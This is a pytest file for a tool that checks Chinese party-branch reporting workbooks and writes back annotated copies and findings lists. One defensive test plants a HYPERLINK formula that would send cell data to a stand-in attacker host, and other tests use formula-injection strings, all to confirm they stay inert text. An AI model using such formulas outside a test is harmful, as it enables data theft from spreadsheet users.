"""Findings sent back: the .xlsx list, and the unit's workbook annotated on the offending cells."""

from __future__ import annotations

import html
import io
import zipfile
from dataclasses import replace
from datetime import date

import pytest
from openpyxl import Workbook, load_workbook

from weakorg.app import process_uploads
from weakorg.export.findings import annotate_workbook, can_annotate, findings_frame, findings_workbook
from weakorg.export.forms import add_sheet, new_workbook, workbook_bytes, write_f1, write_f2
from weakorg.findings import RULES, finding
from weakorg.vocab import FINDING_LIST_HEADERS, FINDING_LIST_SHEET, NO_UNIT_LABEL, SEVERITY_FILLS

COUNTS = {
    "orgs_total": 100,
    "party_committees": 2,
    "general_branches": 8,
    "branches": 88,  # planted: 2 + 8 + 88 != 100 (BREAKDOWN_SUM, an error)
    "weak_total": 3,
    "c1": 1,
    "c2": 1,
    "c3": 0,
    "c4": 0,
    "c5": 1,
    "c6": 0,
}
LINES = [
    {"name": "甲村党支部", "members": 30, "problems": "书记长期外出务工。", "secretary": "王建国",
     "phone": "13907381234", "criteria_stated": "1"},
    {"name": "乙村党支部", "members": "若干", "problems": "书记工作不在状态。", "secretary": "李志强",
     "phone": "1390738123", "criteria_stated": "2"},  # members not a number (error), phone short (warning)
    {"name": "丙村党支部", "members": 25, "problems": "三会一课长期不落实。", "secretary": None, "phone": None,
     "criteria_stated": "5"},  # no secretary, the text does not say vacant (warning)
]  # fmt: skip


def unit_workbook() -> bytes:
    """One unit's return: an F1 table and its F2 register, with three planted mistakes."""
    wb = new_workbook()
    write_f1(add_sheet(wb, "附件1"), "娄星区", "农村", date(2014, 3, 11), COUNTS)
    write_f2(add_sheet(wb, "附件2"), "娄星区", date(2014, 3, 11), LINES)
    return workbook_bytes(wb)


@pytest.fixture(scope="module")
def checked():
    content = unit_workbook()
    [result] = process_uploads([("娄星区.xlsx", content)])
    return content, result.findings


def test_the_planted_mistakes_are_found(checked):
    _, findings = checked
    assert {f.rule for f in findings} >= {"BREAKDOWN_SUM", "MEMBERS_INVALID", "PHONE_INVALID", "SECRETARY_MISSING"}


def test_the_annotated_copy_carries_each_message_on_its_cell(checked):
    content, findings = checked
    wb = load_workbook(io.BytesIO(annotate_workbook(content, findings)))
    located = [f for f in findings if f.sheet and f.cell]
    assert located
    for f in located:
        cell = wb[f.sheet][f.cell]
        assert cell.comment is not None and f.message in cell.comment.text, (f.rule, f.cell)
        assert RULES[f.rule].title in cell.comment.text
    fills = {f.rule: wb[f.sheet][f.cell].fill.fgColor.rgb[-6:] for f in located}
    assert fills["BREAKDOWN_SUM"] == SEVERITY_FILLS["error"]
    assert fills["MEMBERS_INVALID"] == SEVERITY_FILLS["error"]
    assert fills["PHONE_INVALID"] == SEVERITY_FILLS["warning"]
    assert fills["SECRETARY_MISSING"] == SEVERITY_FILLS["warning"]
    # the rest of the workbook is the unit's own: values untouched, no stray comments
    original = load_workbook(io.BytesIO(content))
    for ws in original:
        for row in ws.iter_rows():
            for c in row:
                assert wb[ws.title][c.coordinate].value == c.value
    marked = {(ws.title, c.coordinate) for ws in wb for row in ws.iter_rows() for c in row if c.comment}
    assert marked == {(f.sheet, f.cell) for f in located}


def test_findings_without_a_cell_go_on_an_added_sheet():
    content = unit_workbook()
    loose = finding(
        "LIST_COUNT_MISMATCH", "一览表列出3个党组织，而汇总表合计4个。", file="a.xlsx", sheet="附件2", unit="娄星区"
    )
    stray = finding("DATE_INVALID", "日期无法识别。", file="a.xlsx", sheet="不存在的表", cell="B3")
    on_cell = finding("SMALL_BRANCH", "只有2名党员。", file="a.xlsx", sheet="附件2", cell="C6")
    wb = load_workbook(io.BytesIO(annotate_workbook(content, [loose, stray, on_cell])))
    assert wb.sheetnames[-1] == FINDING_LIST_SHEET
    rows = list(wb[FINDING_LIST_SHEET].values)
    assert rows[0] == tuple(v for k, v in FINDING_LIST_HEADERS.items() if k != "rule")  # sent back: no codes
    assert [r[-1] for r in rows[1:]] == [loose.message, stray.message]
    assert "只有2名党员" in wb["附件2"]["C6"].comment.text


def test_a_merged_cell_is_annotated_at_its_top_left():
    content = unit_workbook()
    ws = load_workbook(io.BytesIO(content))["附件1"]
    merged = next(r for r in ws.merged_cells.ranges if r.size["columns"] > 1)
    inner = f"{merged.coord.split(':')[1]}"
    f = finding("UNKNOWN_UNIT", "填报单位不在名单中。", file="a.xlsx", sheet="附件1", cell=inner)
    wb = load_workbook(io.BytesIO(annotate_workbook(content, [f])))
    assert "填报单位不在名单中" in wb["附件1"][merged.start_cell.coordinate].comment.text


def test_what_cannot_be_annotated_is_refused():
    with pytest.raises(ValueError):
        annotate_workbook(b"\xef\xbb\xbf\xe5\xba\x8f\xe5\x8f\xb7,a\n1,2\n", [])
    assert can_annotate("a.XLSX") and can_annotate("b.xlsm") and not can_annotate("c.xls") and not can_annotate("d.csv")
    csv = "序号,党组织名称\n1,白马村党支部\n".encode()
    assert not can_annotate("a CSV renamed.xlsx", csv) and not can_annotate("empty.xlsx", b"")
    assert can_annotate("a.xlsx", workbook_bytes(Workbook()))


def test_the_findings_list(checked):
    _, findings = checked
    wb = load_workbook(io.BytesIO(findings_workbook(findings)))
    ws = wb[FINDING_LIST_SHEET]
    rows = list(ws.values)
    assert rows[0] == tuple(FINDING_LIST_HEADERS.values())
    assert len(rows) == len(findings) + 1
    frame = findings_frame(findings)
    severity = list(FINDING_LIST_HEADERS.values()).index("严重程度")
    assert [r[severity] for r in rows[1:]] == frame["严重程度"].tolist()
    assert rows[1][severity] == "错误"  # errors first
    by_rule = {r[list(FINDING_LIST_HEADERS).index("rule")]: r for r in rows[1:]}
    members = by_rule["MEMBERS_INVALID"]
    assert members[:5] == ("娄星区", "附件2一览表", "娄星区.xlsx", "附件2", members[4])
    assert members[4].startswith("C") and "若干" in members[-1]


def _sheet_xml(data: bytes, sheet_index: int) -> str:
    """A sheet's XML with character references resolved (openpyxl through lxml writes 附件 as &#38468;&#20214;)."""
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        return html.unescape(z.read(f"xl/worksheets/sheet{sheet_index}.xml").decode())


def test_the_annotated_copy_keeps_the_units_values_and_holds_no_formula():
    """Text the unit typed stays text (quoted, never read as a formula); a formula of the unit's becomes the value it
    last showed, its text said in the comment; what weakorg writes (comments, the added list) is never a formula,
    whatever the names say."""
    wb = new_workbook()
    write_f2(add_sheet(wb, "附件2"), "娄星区", date(2014, 3, 11), [{"name": "=1+1村党支部", "members": "+2+3"}])
    wb["附件2"]["K5"] = '=HYPERLINK("http://evil.example/?x="&A1,"点我")'  # the unit's own formula, never calculated
    content = workbook_bytes(wb)
    [result] = process_uploads([("=HYPERLINK(1).xlsx", content)])
    moved = [replace(f, sheet="不存在") for f in result.findings if f.cell]  # their copies go to the list sheet
    annotated = annotate_workbook(content, result.findings + moved)
    own = _sheet_xml(annotated, 1)
    assert "<f>" not in own and "=1+1村党支部</t>" in own and "+2+3</t>" in own  # string cells
    added = _sheet_xml(annotated, 2)
    assert "<f>" not in added and "=HYPERLINK(1).xlsx</t>" in added
    out = load_workbook(io.BytesIO(annotated))
    assert out["附件2"]["C5"].data_type == "s" and "+2+3" in out["附件2"]["C5"].comment.text
    assert out["附件2"]["C5"].quotePrefix and out["附件2"]["B5"].quotePrefix
    k5 = out["附件2"]["K5"]  # never calculated, so no result: its text kept, as text (quoted), not a blank total
    assert k5.data_type == "s" and k5.quotePrefix and k5.value.startswith("=HYPERLINK(")
    assert "HYPERLINK" in k5.comment.text and "未保存其计算结果" in k5.comment.text


def test_a_formula_with_a_value_shown_keeps_that_value():
    wb = new_workbook()
    write_f2(add_sheet(wb, "附件2"), "娄星区", date(2014, 3, 11), [{"name": "白马村党支部", "members": 12}])
    content = workbook_bytes(wb)
    with zipfile.ZipFile(io.BytesIO(content)) as z:  # a formula Excel calculated: its cached value kept in <v>
        parts = {n: z.read(n) for n in z.namelist()}
    sheet = parts["xl/worksheets/sheet1.xml"].decode()
    parts["xl/worksheets/sheet1.xml"] = sheet.replace(
        '<c r="C5" s="5" t="n"><v>12</v></c>', '<c r="C5" s="5"><f>6*2</f><v>12</v></c>'
    ).encode()
    assert parts["xl/worksheets/sheet1.xml"] != sheet.encode()
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as z:
        for n, data in parts.items():
            z.writestr(n, data)
    out = load_workbook(io.BytesIO(annotate_workbook(buf.getvalue(), [])))
    assert out["附件2"]["C5"].value == 12 and out["附件2"]["C5"].data_type == "n"
    assert "6*2" in out["附件2"]["C5"].comment.text


def test_the_findings_list_writes_every_text_as_a_string_cell():
    found = [finding("UNKNOWN_UNIT", "+1 不在名单中", file="=1+1.xlsx", sheet="@附件2", cell="A3", unit="-2+3")]
    data = findings_workbook(found)
    xml = _sheet_xml(data, 1)
    assert "<f>" not in xml and "=1+1.xlsx</t>" in xml and "@附件2</t>" in xml and "-2+3</t>" in xml
    ws = load_workbook(io.BytesIO(data)).active
    assert ws["C2"].value == "=1+1.xlsx" and ws["C2"].data_type == "s" and ws["C2"].quotePrefix


def test_a_finding_of_no_known_unit_is_listed_as_the_pages_say_it():
    """A 一览表 whose header names no unit of the campaign: its findings' 填报单位 is 单位未识别, not blank (a unit's
    clerk reads the list), as on every page."""
    lost = finding("UNKNOWN_UNIT", "填报单位不在名单中", unit=None, file="a.xlsx", sheet="一览表", cell="A3")
    frame = findings_frame([lost])
    assert frame[FINDING_LIST_HEADERS["unit"]].tolist() == [NO_UNIT_LABEL]
    ws = load_workbook(io.BytesIO(findings_workbook([lost]))).active
    assert ws.cell(2, 1).value == NO_UNIT_LABEL
